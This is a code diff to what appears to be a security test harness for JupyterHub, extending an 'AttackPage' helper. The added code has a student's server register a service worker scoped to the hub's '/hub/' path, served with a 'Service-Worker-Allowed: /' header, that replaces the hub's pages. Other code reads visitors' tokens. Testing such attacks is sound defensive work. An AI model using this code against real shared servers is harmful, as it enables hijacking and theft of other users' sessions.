@@ -29,6 +29,11 @@ export class AttackPage {
     this.#student = student;
   }
 
+  /** The page of a server that runs already, at another address of the hub's. */
+  static of(student: SignedIn): AttackPage {
+    return new AttackPage(student);
+  }
+
   /** @param admin - Whose token the script wants. */
   static async on(student: SignedIn, admin: string): Promise<AttackPage> {
     const notebook = await student.notebook();
@@ -72,6 +77,16 @@ open("${CONFIG}", "w").write("WORDS = " + ${JSON.stringify(JSON.stringify(words)
   async asksForTokens(context: BrowserContext): Promise<readonly Asked[]> {
     const page = await this.visit(context);
     return page.evaluate(call("tokens"));
+  }
+
+  /**
+   * Has the browser run a script of the student's between its pages and the hub, from now on.
+   *
+   * @returns what the browser says: `"registered"`, or why not.
+   */
+  async takesOverHub(context: BrowserContext): Promise<string> {
+    const page = await this.visit(context);
+    return page.evaluate(call("worker"));
   }
 
   /** The tokens of visitors that the server was given by the hub, which the student can read. */
@@ -149,6 +164,19 @@ const pageOf = (place: string, student: string, admin: string) => `<!doctype htm
     }
   }
 
+  async function worker_() {
+    try {
+      const scope = place + "/hub/";
+      const worker = await navigator.serviceWorker.register(location.pathname.replace(/mine$/, "worker"), { scope });
+      const begun = worker.installing || worker.waiting || worker.active;
+      if (begun.state !== "activated")
+        await new Promise((resolve) => begun.addEventListener("statechange", () => begun.state === "activated" && resolve()));
+      return "registered";
+    } catch (error) {
+      return String(error);
+    }
+  }
+
   async function tokens_() {
     const _xsrf = await xsrf_();
     const asked = [];
@@ -181,6 +209,17 @@ import os
 from jupyterhub.services.auth import HubOAuth
 from tornado import web
 
+class Worker(web.RequestHandler):
+    def get(self):
+        self.set_header("Content-Type", "text/javascript")
+        self.set_header("Service-Worker-Allowed", "/")
+        self.finish("""
+            addEventListener("fetch", (event) => {
+                if (event.request.mode === "navigate")
+                    event.respondWith(new Response("<title>Not the hub</title>", { headers: { "Content-Type": "text/html" } }));
+            });
+        """)
+
 class Mine(web.RequestHandler):
     def get(self):
         if self.request.query == "coop":
@@ -190,8 +229,9 @@ class Mine(web.RequestHandler):
 find_handler = web.Application.find_handler
 
 def serve(self, request, **given):
-    if request.path.endswith("/mine"):
-        return self.get_handler_delegate(request, Mine)
+    for name, handler in (("mine", Mine), ("worker", Worker)):
+        if request.path.endswith("/" + name):
+            return self.get_handler_delegate(request, handler)
     return find_handler(self, request, **given)
 
 web.Application.find_handler = serve
